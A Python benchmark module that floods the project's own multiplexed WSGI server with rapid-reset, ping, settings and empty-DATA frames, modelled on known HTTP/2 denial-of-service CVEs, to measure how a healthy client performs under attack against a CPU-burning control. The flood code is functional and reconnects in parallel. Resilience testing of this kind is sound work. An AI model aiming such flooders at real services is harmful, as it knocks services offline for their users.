"""Flood attackers, each in its own process (so that its CPU and the GIL are not the healthy
client's)::

    python -m benchmarks.attack KIND HOST PORT [--seconds S] [--closed N] [--parallel P]

floods on P connections at once (default 1), each opening a new connection whenever the server
closes one, until S seconds pass or the server has closed N connections in all, and prints what
it did as JSON. ``--switched`` takes turns as told on stdin instead: burning one CPU (the
control) or flooding (see :func:`switched`).

KIND is one of: rapid-reset (HEADERS then RESET, stream after stream: CVE-2023-44487), ping
(CVE-2019-9512), settings (CVE-2019-9515), empty (empty DATA frames on an open stream:
CVE-2019-9518).
"""

from __future__ import annotations

import argparse
import json
import queue
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator

import msgpack

from muxwsgi import ErrorCode, FrameType
from muxwsgi._frames import FRAME_HEADER, MAGIC, split_frames

_HEADER = FRAME_HEADER.pack
#: The opening of every attacking connection: PREFACE and the ACK of the server's settings.
OPENING = (
    _HEADER(FrameType.PREFACE, len(MAGIC), 0, 0) + MAGIC + _HEADER(FrameType.SETTINGS, 0, 1, 0)
)
_VARS = msgpack.packb(
    ["REQUEST_METHOD", "GET", "PATH_INFO", "/hello", "QUERY_STRING", "", "SERVER_NAME", "t",
     "SERVER_PORT", "80", "SERVER_PROTOCOL", "HTTP/1.1"]
)  # fmt: skip
_CANCEL = struct.pack("<I", ErrorCode.CANCEL)
BATCH = 64


def rapid_reset() -> Iterator[tuple[bytes, int]]:
    sid = 1
    while True:
        out = []
        for _ in range(BATCH):
            out.append(_HEADER(FrameType.HEADERS, len(_VARS), 1, sid) + _VARS)
            out.append(_HEADER(FrameType.RESET, 4, 0, sid) + _CANCEL)
            sid += 2
        yield b"".join(out), BATCH


def ping() -> Iterator[tuple[bytes, int]]:
    frame = _HEADER(FrameType.PING, 8, 0, 0) + b"floodping"[:8]
    while True:
        yield frame * BATCH, BATCH


def settings() -> Iterator[tuple[bytes, int]]:
    frame = _HEADER(FrameType.SETTINGS, 6, 0, 0) + struct.pack("<HI", 0x1, 100)
    while True:
        yield frame * BATCH, BATCH


def empty() -> Iterator[tuple[bytes, int]]:
    yield _HEADER(FrameType.HEADERS, len(_VARS), 0, 1) + _VARS, 0  # a stream left open
    frame = _HEADER(FrameType.DATA, 0, 0, 1)
    while True:
        yield frame * BATCH, BATCH


def burn(seconds: float) -> dict[str, object]:
    """The control: a process that only burns one CPU for ``seconds``, as a flooder does, so
    that a healthy client's throughput under attack is compared with its throughput under
    the same CPU contention (on a small machine the flooder's own CPU is most of the effect)."""
    deadline = time.monotonic() + seconds
    spins = 0
    while time.monotonic() < deadline:
        spins += 1
    return {"kind": "burn", "spins": spins, "seconds": seconds}


KINDS: dict[str, Callable[[], Iterator[tuple[bytes, int]]]] = {
    "rapid-reset": rapid_reset,
    "ping": ping,
    "settings": settings,
    "empty": empty,
}


class Flooder:
    """Floods with one kind of frame, opening a new connection whenever the server closes one,
    until ``stop()`` says so; counts what it did."""

    def __init__(self, kind: str, address: tuple[str, int]) -> None:
        self.kind = kind
        self.address = address
        self.sent = self.connections = 0
        #: Connections the flooder closed itself (its run ended), and those the server closed.
        self.cut = self.closed = 0
        self.goaways: Counter[str] = Counter()

    def run(self, stop: Callable[[], bool]) -> None:
        while not stop():
            self.connections += 1
            received = bytearray()
            sock = socket.create_connection(self.address, timeout=5)
            closed = False
            try:
                sock.sendall(OPENING)
                sock.setblocking(False)
                for chunk, frames in KINDS[self.kind]():
                    if stop():
                        break
                    try:
                        _send_all(sock, chunk, stop)
                        self.sent += frames
                        if not _drain(sock, received):
                            closed = True  # the server closed the connection
                            break
                    except _Stopped:
                        break
                    except OSError:  # reset by the server: what it sent first is still there
                        closed = True
                        try:
                            _drain(sock, received)
                        except OSError:
                            pass
                        break
            finally:
                sock.close()
            self.cut += not closed
            self.closed += closed
            frames_seen, _ = split_frames(bytes(received))
            for frame in frames_seen:
                if frame.type == FrameType.GOAWAY:
                    code = struct.unpack_from("<II", frame.payload)[1]
                    self.goaways[ErrorCode.parse(code).name] += 1

    def figures(self, seconds: float) -> dict[str, object]:
        return {"kind": self.kind, "frames": self.sent, "connections": self.connections,
                "cut": self.cut, "closed": self.closed, "goaways": dict(self.goaways),
                "seconds": seconds}  # fmt: skip


def run_all(flooders: list[Flooder], stop: Callable[[], bool]) -> None:
    """Run ``flooders`` at once, each in a thread, until ``stop()`` says so."""
    threads = [threading.Thread(target=f.run, args=(stop,)) for f in flooders]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def figures(flooders: list[Flooder], seconds: float) -> dict[str, object]:
    """What ``flooders`` did in all, over ``seconds`` of flooding."""
    out = flooders[0].figures(seconds)
    for other in flooders[1:]:
        for key in ("frames", "connections", "cut", "closed"):
            out[key] += other.figures(0)[key]  # type: ignore[operator]
        out["goaways"] = dict(Counter(out["goaways"]) + other.goaways)  # type: ignore[arg-type]
    out["parallel"] = len(flooders)
    return out


def flood(
    kind: str, address: tuple[str, int], seconds: float, parallel: int = 1, closed: int = 0
) -> dict[str, object]:
    """Flood on ``parallel`` connections at once, each reconnecting whenever the server closes
    it, until ``seconds`` pass or (``closed`` > 0) the server has closed that many."""
    started = time.monotonic()
    deadline = started + seconds
    flooders = [Flooder(kind, address) for _ in range(parallel)]

    def stop() -> bool:
        done = closed and sum(f.closed for f in flooders) >= closed
        return bool(done) or time.monotonic() >= deadline

    run_all(flooders, stop)
    return figures(flooders, time.monotonic() - started)


def switched(kind: str, address: tuple[str, int], parallel: int = 1) -> dict[str, object]:
    """Take turns as told on stdin: ``burn`` (the control: burn one CPU), ``flood`` (flood on
    ``parallel`` connections at once, each in a thread), ``stop``. Each command is
    acknowledged on stdout once the previous turn has ended (its connections closed), so that
    the caller can time its measurements. The same process, on the same CPU, is both the
    control and the attack."""
    commands: queue.SimpleQueue[str] = queue.SimpleQueue()

    def read() -> None:
        for line in sys.stdin:
            commands.put(line.strip())
        commands.put("stop")

    threading.Thread(target=read, daemon=True).start()
    flooders = [Flooder(kind, address) for _ in range(parallel)]
    flooding = 0.0
    command = commands.get()
    while command != "stop":
        print(f"ok {command}", flush=True)
        started = time.monotonic()
        if command == "flood":
            run_all(flooders, lambda: not commands.empty())
            flooding += time.monotonic() - started
        else:
            while commands.empty():
                pass  # burn
        command = commands.get()
    return figures(flooders, flooding)


class _Stopped(Exception):
    """The run ended while the server was not reading."""


def _send_all(sock: socket.socket, data: bytes, stop: Callable[[], bool]) -> None:
    view = memoryview(data)
    while view:
        try:
            view = view[sock.send(view) :]
        except BlockingIOError:
            if stop():
                raise _Stopped from None
            time.sleep(0.0005)  # the server reads no faster: that is its defence working


def _drain(sock: socket.socket, received: bytearray) -> bool:
    """Read what the server sent (a flooder that reads); False once it closed."""
    while True:
        try:
            data = sock.recv(1 << 16)
        except BlockingIOError:
            return True
        if not data:
            return False
        received += data


def main(argv: list[str] | None = None) -> dict[str, object]:
    ap = argparse.ArgumentParser(prog="python -m benchmarks.attack", description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)  # fmt: skip
    ap.add_argument("kind", choices=[*KINDS, "burn"])
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--seconds", type=float, default=10.0, help="flood this long at most")
    ap.add_argument("--closed", type=int, default=0, help="stop once the server closed this many")
    ap.add_argument("--parallel", type=int, default=1, help="connections flooding at once")
    ap.add_argument("--switched", action="store_true", help="take turns as told on stdin")
    args = ap.parse_args(argv)
    address = (args.host, args.port)
    if args.kind == "burn":
        return burn(args.seconds)
    if args.switched:
        return switched(args.kind, address, args.parallel)
    return flood(args.kind, address, args.seconds, args.parallel, args.closed)


if __name__ == "__main__":
    print(json.dumps(main()), flush=True)
